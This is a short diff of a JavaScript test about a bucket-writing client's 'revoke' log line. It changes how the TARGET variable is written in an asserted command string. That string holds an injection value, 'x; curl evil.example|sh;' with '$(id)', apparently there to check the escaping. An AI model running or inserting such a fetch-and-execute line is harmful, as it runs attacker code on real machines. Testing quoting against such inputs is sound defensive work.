@@ -153,6 +153,6 @@ suite('a client that may write the bucket', () => {
     })
     await watch.runRound(3)
     const line = watch.logged.find((one) => one.includes('PUBLISHED_KEY_UNKNOWN')) ?? ''
-    assert.ok(line.includes(`revoke --to TARGET -- 'x; curl evil.example|sh; '\\''$(id)'\\''\n'`), line)
+    assert.ok(line.includes(`revoke --to "\${TARGET:?}" -- 'x; curl evil.example|sh; '\\''$(id)'\\''\n'`), line)
   })
 })
